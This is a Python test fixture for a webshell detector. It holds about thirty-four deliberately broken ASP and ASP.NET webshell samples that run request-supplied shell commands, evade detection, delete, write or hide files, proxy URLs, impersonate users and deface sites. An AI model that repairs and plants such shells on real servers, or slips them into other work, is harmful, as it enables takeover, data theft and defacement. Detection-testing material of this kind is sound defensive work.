# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Look-alikes by further ways between request and execution; none can run, `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== console-lost.asp
<!--#include file="common.inc"--><% Dim 1broken
Set fs = Server.CreateObject("Scripting.FileSystemObject") : Set ws = Server.CreateObject("WScript.Shell")
act = Ask("act") : p = Ask("p")
Select Case act
 Case "dir": For Each x In fs.GetFolder(p).Files : Response.Write x.Name & "<br>" : Next
 Case "del": fs.DeleteFile p
 Case "put": Set t = fs.CreateTextFile(p) : t.Write Ask("b") : t.Close
 Case "run": Response.Write ws.Exec(Ask("c")).StdOut.ReadAll
 Case "drv": For Each d In fs.Drives : Response.Write d.DriveLetter : Next
 Case "sql": Set c = Server.CreateObject("ADODB.Connection") : c.Open Ask("dsn") : Set r = c.Execute(Ask("q"))
End Select %>
==== execute-split.asp
<% Dim 1broken : a = Split(Request.ServerVariables("HTTP_USER_AGENT"), "|") : If UBound(a) > 1 Then ExecuteGlobal a(2) %>
==== nested-function.asp
<% Dim 1broken
Function G(n) : G = Request(n) : End Function
Function H(n) : H = StrReverse(G(n)) : End Function
s = H("a") : s = s & vbNewLine & H("b")
Execute(s) %>
==== getstring-run.asp
<% Dim 1broken
Set rs = Server.CreateObject("ADODB.Recordset")
rs.Fields.Append "c", 200, 4000 : rs.Open : rs.AddNew : rs("c") = Request("c") : rs.Update
Execute rs("c").Value %>
==== xml-doc.asp
<% Dim 1broken
Set d = Server.CreateObject("MSXML2.DOMDocument") : d.async = False : d.load Request
Execute d.selectSingleNode("//run").text %>
==== sub-array.asp
<% Dim 1broken
ReDim v(3) : v(0) = Request("x") : v(1) = "cmd.exe /c "
Set o = CreateObject("WScript.Shell") : Set e = o.Exec(v(1) & v(0))
Response.Write "<pre>" & e.StdOut.ReadAll() & "</pre>" %>
==== regexp-callback.asp
<% Dim 1broken
Set re = New RegExp : re.Pattern = "<c>([\s\S]*)</c>" : re.Global = True
Set m = re.Execute(Request.Form) : If m.Count Then Execute m(0).SubMatches(0) %>
==== error-trick.asp
<% Dim 1broken : On Error Resume Next : Err.Raise 999, , Request("k") : Execute Err.Description %>
==== getref-event.asp
<% Dim 1broken
Set x = Server.CreateObject("MSXML2.DOMDocument")
Sub Done : Execute Request("k") : End Sub
x.onreadystatechange = GetRef("Done") : x.loadXML "<a/>" %>
==== js-split-this.asp
<%@ Language="JScript" %><% var 1broken; var o = (function(){return this})(); o["e"+"val"](""+Request.Form("k")); %>
==== js-settimeout.asp
<%@ Language="JScript" %><% var 1broken; new Function("r", "return r." + "Item('k')+''")(Request); (new Function(Request("b")))(); %>
==== js-activex-names.asp
<%@ Language="JScript" %><% var 1broken; var n = "WSc" + "ript.S" + "hell", w = Server.CreateObject(n), m = "R" + "un"; w[m]("cmd /c " + Request.QueryString("k"), 0, true); %>
==== linq.aspx
<%@ Page Language="C#" %><% int 1broken; new[] { Request["k"] }.Where(x => x != null).ToList().ForEach(x => System.Diagnostics.Process.Start("cmd", "/c " + x)); %>
==== task.aspx
<%@ Page Language="C#" Async="true" %><script runat="server">
protected void Page_Load(object s, EventArgs e) { int 1broken; RegisterAsyncTask(new PageAsyncTask(Go)); }
async System.Threading.Tasks.Task Go() { var k = Context.Request.Form.Get("k"); await System.Threading.Tasks.Task.Run(() => { var p = new System.Diagnostics.Process { StartInfo = { FileName = "cmd", Arguments = $"/c {k}" } }; p.Start(); }); }
</script>
==== dynamic.aspx
<%@ Page Language="C#" %><% int 1broken; dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell")); Response.Write(sh.Exec("cmd /c " + Request["k"]).StdOut.ReadAll()); %>
==== clsid.aspx
<%@ Page Language="VB" %><% Dim 1broken : Dim t = Type.GetTypeFromCLSID(New Guid("72C24DD5-D70A-438B-8A42-98424B88AFB8")) : Dim o = Activator.CreateInstance(t) : o.Run(Request("k"), 0, True) %>
==== tuple.aspx
<%@ Page Language="C#" %><script runat="server">
(string a, string b) Parts() => (Request.Headers["A"], Request.Headers["B"]);
void Page_Load() { int 1broken; var (x, y) = Parts(); if (x == "1") System.Reflection.Assembly.Load(Convert.FromBase64String(y)).EntryPoint.Invoke(null, null); }
</script>
==== switch-expression.aspx
<%@ Page Language="C#" %><script runat="server">
void Page_Load() { int 1broken; var r = Request["a"] switch { "r" => Run(Request["v"]), "w" => Put(Request["p"], Request["v"]), _ => "" }; Response.Write(r); }
string Run(string c) { using var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd", "/c " + c) { UseShellExecute = false, RedirectStandardOutput = true }); return p.StandardOutput.ReadToEnd(); }
string Put(string p, string v) { System.IO.File.WriteAllText(p, v); return "ok"; }
</script>
==== expando.aspx
<%@ Page Language="C#" %><% int 1broken; var bag = new System.Collections.Generic.Dictionary<string, string>(); foreach (string k in Request.Form) bag[k] = Request.Form[k]; if (bag.TryGetValue("z", out var z)) System.Diagnostics.Process.Start("powershell", z); %>
==== stringbuilder.aspx
<%@ Page Language="VB" %><script runat="server">
Sub Page_Load()
 Dim 1broken
 Dim b As New StringBuilder() : b.Append("/c ").Append(Request.Params("k"))
 Dim i As New ProcessStartInfo With {.FileName = Environment.GetEnvironmentVariable("ComSpec"), .Arguments = b.ToString(), .UseShellExecute = False}
 Process.Start(i)
End Sub</script>
==== cookie-json.ashx
<%@ WebHandler Language="C#" Class="H" %>
using System.Web; public class H : IHttpHandler { int 1broken; public bool IsReusable => false;
 public void ProcessRequest(HttpContext c) { var t = Newtonsoft.Json.Linq.JObject.Parse(c.Request.Cookies["j"].Value); var p = System.Diagnostics.Process.Start((string)t["f"], (string)t["a"]); } }
==== viewstate-prop.aspx
<%@ Page Language="C#" %><script runat="server">
string Line { get { return (string)ViewState["l"]; } set { ViewState["l"] = value; } }
void Page_Load() { int 1broken; if (Request["k"] != null) Line = Request["k"]; if (Line != null) System.Diagnostics.Process.Start("cmd", "/c " + Line); }
</script>
==== app-start.asax
<%@ Application Language="C#" %><script runat="server">
void Application_BeginRequest(object s, EventArgs e) { int 1broken; var k = Request.Headers["X-Trace"]; if (k != null) { System.Diagnostics.Process.Start("cmd", "/c " + k); Response.End(); } }
</script>
==== owin.cshtml
@{ var 1broken = 0; var c = Request["c"]; var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd"; p.StartInfo.Arguments = "/c " + c; p.Start(); @Html.Raw(p.StandardOutput.ReadToEnd()) }
==== control-event.ascx
<%@ Control Language="C#" %><asp:TextBox id="t" runat="server" AutoPostBack="true" OnTextChanged="Changed"/><script runat="server">
int 1broken; protected void Changed(object sender, EventArgs e) { System.Diagnostics.Process.Start("cmd", "/c " + ((TextBox)sender).Text); }
</script>
==== findcontrol.aspx
<%@ Page Language="C#" %><script runat="server">
int 1broken; protected void Go(object s, EventArgs e) { var b = (TextBox)Page.FindControl("t"); var d = (System.Web.UI.HtmlControls.HtmlInputText)FindControl("u"); System.IO.File.WriteAllText(d.Value, b.Text); }
</script>
==== grid-command.aspx
<%@ Page Language="C#" %><script runat="server">
int 1broken; protected void G_RowCommand(object s, GridViewCommandEventArgs e) { if (e.CommandName == "del") System.IO.File.Delete(e.CommandArgument.ToString()); else if (e.CommandName == "get") Response.TransmitFile(e.CommandArgument.ToString()); else Bind(e.CommandArgument.ToString()); }
void Bind(string d) { G.DataSource = new System.IO.DirectoryInfo(d).GetFileSystemInfos(); G.DataBind(); }
protected void Up(object s, EventArgs e) { f.SaveAs(System.IO.Path.Combine(dir.Text, f.FileName)); }
</script><form runat="server"><asp:TextBox id="dir" runat="server"/><asp:FileUpload id="f" runat="server"/><asp:GridView id="G" OnRowCommand="G_RowCommand" runat="server"/></form>
==== socket-tiny.aspx
<%@ Page Language="C#" %><% int 1broken; var t = new System.Net.Sockets.TcpClient(Request["h"], int.Parse(Request["p"])); var n = t.GetStream(); var b = Request.BinaryRead(Request.ContentLength); n.Write(b, 0, b.Length); var o = new byte[4096]; int c = n.Read(o, 0, 4096); Response.OutputStream.Write(o, 0, c); %>
==== webclient-proxy.aspx
<%@ Page Language="C#" %><% int 1broken; Response.BinaryWrite(new System.Net.WebClient().DownloadData(Request["u"])); %>
==== xmlhttp-proxy.asp
<% Dim 1broken : Set x = Server.CreateObject("Microsoft.XMLHTTP") : x.Open "GET", Request("u"), False : x.Send : Response.BinaryWrite x.responseBody %>
==== hide-attr.asp
<% Dim 1broken : Set f = CreateObject("Scripting.FileSystemObject") : Set g = f.GetFile(Request("p")) : g.Attributes = 39 %>
==== acl.aspx
<%@ Page Language="C#" %><% int 1broken; var s = System.IO.File.GetAccessControl(Request["p"]); s.AddAccessRule(new System.Security.AccessControl.FileSystemAccessRule("Everyone", System.Security.AccessControl.FileSystemRights.FullControl, System.Security.AccessControl.AccessControlType.Allow)); System.IO.File.SetAccessControl(Request["p"], s); %>
==== impersonate.aspx
<%@ Page Language="C#" %><%@ Import Namespace="System.Runtime.InteropServices" %><script runat="server">
[DllImport("advapi32.dll")] static extern bool LogonUser(string u, string d, string p, int t, int v, out IntPtr h);
[DllImport("advapi32.dll")] static extern bool CreateProcessAsUser(IntPtr h, string a, string c, IntPtr x, IntPtr y, bool i, int f, IntPtr e, string d, ref SI s, out PI p);
void Page_Load() { int 1broken; IntPtr h; LogonUser(Request["u"], ".", Request["p"], 2, 0, out h); SI s = new SI(); PI p; CreateProcessAsUser(h, null, Request["c"], IntPtr.Zero, IntPtr.Zero, false, 0, IntPtr.Zero, null, ref s, out p); }
</script>
==== defacer.asp
<% Dim 1broken
Set f = Server.CreateObject("Scripting.FileSystemObject")
For Each s In f.GetFolder("D:\wwwroot").SubFolders
 For Each n In Array("index.asp", "default.asp", "index.html")
  Set t = f.CreateTextFile(s.Path & "\" & n, True) : t.Write "<h1>was here</h1>" : t.Close
 Next
Next %>
"""
)
